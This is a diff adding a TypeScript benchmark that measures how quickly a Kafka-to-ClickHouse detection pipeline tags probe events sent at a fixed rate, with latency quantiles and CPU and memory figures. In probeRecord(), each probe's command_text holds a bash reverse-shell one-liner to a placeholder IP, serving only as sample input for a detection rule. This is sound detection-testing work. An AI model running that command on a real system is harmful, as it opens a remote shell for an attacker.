@@ -1,0 +1,153 @@
+/**
+ * Events at a fixed rate, some of which a shipped rule tags: from the return of the produce call to
+ * the moment a view answers for the tag.
+ *
+ * One reader asks for the oldest probe of either partition, since a partition's blocks are written in
+ * order: its load does not grow with the latency it measures. What comes while the engine and
+ * ClickHouse are cold is told apart.
+ */
+
+import { setTimeout } from 'node:timers/promises'
+import type { ClickHouseClient } from '@clickhouse/client'
+import type { Producer } from 'kafkajs'
+import { createClickHouse } from '../cli/clickhouse.ts'
+import { peakRssMb } from '../test/process-figures.ts'
+import { connectProducer, cpuOf, type EngineSettings, type Stack, send } from './pipeline-stack.ts'
+
+export interface Pace {
+  readonly perSecond: number
+  readonly seconds: number
+  /** Probes of the first so many seconds count as cold. */
+  readonly coldSeconds: number
+}
+
+interface Probe {
+  readonly id: string
+  readonly partition: number
+  readonly isCold: boolean
+  readonly sentMs: number
+}
+
+const tickMs = 20
+/** Odd, so that probes take turns between the two partitions. */
+const probeTicks = 9
+const askAgainMs = 10
+
+export async function paced(
+  stack: Stack,
+  lines: readonly string[],
+  pace: Pace,
+  settings: EngineSettings,
+): Promise<readonly string[]> {
+  const engine = stack.startEngine(settings)
+  const clickhouse = createClickHouse(stack.dev.config)
+  const producer = await connectProducer(stack.dev)
+  try {
+    await send(producer, 0, [probeRecord('first')])
+    while (!(await isTagged(clickhouse, 'first'))) await setTimeout(askAgainMs)
+    const probes: Probe[] = []
+    const cpu = () => [cpuOf([engine]), cpuOf(stack.servers)] as const
+    const sending = sendPaced(producer, lines, pace, probes)
+    const reading = readProbes(clickhouse, probes, sending)
+    await setTimeout(pace.coldSeconds * 1000)
+    const before = cpu()
+    const achieved = await sending
+    const after = cpu()
+    const latencies = await reading
+    const shares = after.map((seconds, index) =>
+      Math.round(((seconds - (before[index] ?? 0)) / (pace.seconds - pace.coldSeconds)) * 100),
+    )
+    return [
+      `paced at ${pace.perSecond} events/s (sent ${achieved}/s): tag readable after ${quantiles(latencies, false)}`,
+      `  in the first ${pace.coldSeconds} s ${quantiles(latencies, true)}`,
+      `  after them the engine took ${shares[0]} % of a core, broker and ClickHouse ${shares[1]} %; peak memory ${Math.round(peakRssMb(engine))} MB`,
+    ]
+  } finally {
+    await producer.disconnect()
+    await clickhouse.close()
+  }
+}
+
+/** Resolves to the rate that was kept. */
+async function sendPaced(
+  producer: Producer,
+  lines: readonly string[],
+  { perSecond, seconds, coldSeconds }: Pace,
+  probes: Probe[],
+): Promise<number> {
+  const perTick = Math.max(1, Math.round((perSecond * tickMs) / 1000))
+  const begunMs = performance.now()
+  const passedMs = () => performance.now() - begunMs
+  let sent = 0
+  for (let tick = 0; passedMs() < seconds * 1000; tick += 1) {
+    const at = sent % (lines.length - perTick)
+    const portion = lines.slice(at, at + perTick)
+    const id = tick % probeTicks === 0 ? `probe-${tick}` : null
+    const partition = tick % 2
+    await send(producer, partition, id === null ? portion : [...portion, probeRecord(id)])
+    sent += portion.length
+    if (id !== null) {
+      const isCold = passedMs() < coldSeconds * 1000
+      probes.push({ id, partition, isCold, sentMs: performance.now() })
+    }
+    const aheadMs = (tick + 1) * tickMs - passedMs()
+    if (aheadMs > 0) await setTimeout(aheadMs)
+  }
+  return Math.round(sent / (passedMs() / 1000))
+}
+
+interface Latency {
+  readonly isCold: boolean
+  readonly ms: number
+}
+
+/** Takes probes out of `probes` as they become readable; ends when none is left after `sending`. */
+async function readProbes(
+  clickhouse: ClickHouseClient,
+  probes: Probe[],
+  sending: Promise<unknown>,
+): Promise<readonly Latency[]> {
+  const latencies: Latency[] = []
+  let isSending = true
+  const ended = () => {
+    isSending = false
+  }
+  sending.then(ended, ended)
+  while (isSending || probes.length > 0) {
+    for (const partition of [0, 1]) {
+      const index = probes.findIndex((probe) => probe.partition === partition)
+      const probe = probes[index]
+      if (probe === undefined || !(await isTagged(clickhouse, probe.id))) continue
+      probes.splice(index, 1)
+      latencies.push({ isCold: probe.isCold, ms: performance.now() - probe.sentMs })
+    }
+    await setTimeout(askAgainMs)
+  }
+  return latencies
+}
+
+function quantiles(latencies: readonly Latency[], isCold: boolean): string {
+  const sorted = latencies
+    .filter((latency) => latency.isCold === isCold)
+    .map(({ ms }) => ms)
+    .toSorted((a, b) => a - b)
+  const quantile = (share: number) =>
+    Math.round(sorted[Math.floor((sorted.length - 1) * share)] ?? 0)
+  return `p50 ${quantile(0.5)} ms, p95 ${quantile(0.95)} ms, p99 ${quantile(0.99)} ms over ${sorted.length} probes`
+}
+
+/** A record that a shipped rule tags, told apart by its session. */
+function probeRecord(id: string): string {
+  const command_text = 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'
+  return JSON.stringify({ kind: 'command', host: 'bench', session_id: id, command_text })
+}
+
+async function isTagged(clickhouse: ClickHouseClient, session: string): Promise<boolean> {
+  const answer = await clickhouse.query({
+    query: 'SELECT * FROM session_seen(session_id = {id:String})',
+    query_params: { id: session },
+    format: 'JSONEachRow',
+  })
+  const [row] = await answer.json<{ seen: boolean }>()
+  return row?.seen === true
+}
